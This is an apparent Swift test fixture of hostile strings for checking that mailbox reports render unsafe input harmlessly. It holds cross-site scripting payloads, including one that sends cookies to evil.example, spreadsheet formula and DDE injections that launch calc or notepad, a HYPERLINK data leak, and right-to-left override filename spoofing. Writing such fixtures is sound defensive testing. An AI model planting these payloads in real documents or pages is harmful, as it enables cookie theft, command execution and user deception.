/// Text that must survive every report untouched and harmless: markup, scripts, spreadsheet
/// formula prefixes, right-to-left and invisible characters, emoji, very long and empty values.
enum Hostile {
    enum Kind: String, CaseIterable, Sendable {
        case html, script, formulaEquals, formulaPlus, formulaMinus, formulaAt
        case rightToLeft, emoji, invisible, long, empty, missing
    }

    /// Length of the long subject and name, in characters (all ASCII, so also bytes).
    static let longLength = 5_000
    /// Length of the long body: past one 8 KB data block, so large values are exercised too.
    static let longBodyLength = 60_000

    static func subject(_ kind: Kind) -> String? {
        switch kind {
        case .html: "<b>Q3 numbers</b> & <i>\"forecast\"</i> <a href=\"http://evil.example/\">details</a>"
        case .script: "<script>alert('subject')</script> Budget follow-up"
        case .formulaEquals: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open report\")"
        case .formulaPlus: "+cmd|' /C calc'!A0"
        case .formulaMinus: "-2+3+cmd|' /C notepad'!A0"
        case .formulaAt: "@SUM(1+9)*cmd|' /C calc'!A0"
        case .rightToLeft: "تقرير الميزانية — דו\"ח תקציב — invoice\u{202E}fdp.exe"
        case .emoji: "🎉 Launch day 🚀 — 👩‍👩‍👧‍👦 team lunch 🇺🇸 ✅"
        case .invisible: "Zero\u{200B}width\u{FEFF} and\u{00A0}no-break\u{200D}joiner"
        case .long: long("Very long subject line ", length: longLength)
        case .empty: ""
        case .missing: nil
        }
    }

    static func body(_ kind: Kind) -> String? {
        switch kind {
        case .html:
            "<html><body onload=\"alert(1)\"><h1>Hello</h1><img src=x onerror=alert(2)><iframe src=\"http://evil.example\"></iframe></body></html>"
        case .script: "<script>document.location='http://evil.example/?c='+document.cookie</script>"
        case .formulaEquals: "=1+1\r\n=HYPERLINK(\"http://evil.example\")"
        case .formulaPlus: "+SUM(A1:A9)\r\n+cmd|' /C calc'!A0"
        case .formulaMinus: "-10+20\r\n-cmd|' /C calc'!A0"
        case .formulaAt: "@SUM(A1:A9)\r\n@cmd"
        case .rightToLeft: "مرحبا، هذا تقرير الربع الثالث.\r\nשלום, זה הדו\"ח.\r\n\u{202E}txt.exe"
        case .emoji: "👍🏽 Thanks! 🙏 See 📎 and 🧾 — 🏳️‍🌈 🤖"
        case .invisible: "Line\u{2028}separator\u{2029}paragraph\u{200B}zero width"
        case .long: long("A very long body paragraph. ", length: longBodyLength)
        case .empty: ""
        case .missing: nil
        }
    }

    /// Display names for correspondents of the hostile mailbox.
    static let names: [String] = [
        "<script>alert('name')</script>",
        "=HYPERLINK(\"http://evil.example\",\"Dana\")",
        "+Plus Prefix",
        "-Minus Prefix",
        "@At Prefix",
        "سارة العلي",
        "דוד לוי",
        "Zoë Ångström 👩‍💻",
        "",
        "<b>Bold</b> &amp; Sons",
        "O'Brien, \"Pat\"",
        long("Bartholomew Longname ", length: longLength),
    ]

    /// Folder names, under the IPM subtree, that are hostile too.
    static let folderName = "<b>Q4</b> & \"Plans\" 🚀 =SUM(1)"

    private static func long(_ unit: String, length: Int) -> String {
        let repeated = String(repeating: unit, count: length / unit.count + 1)
        return String(repeated.prefix(length - 3)) + "END"
    }
}
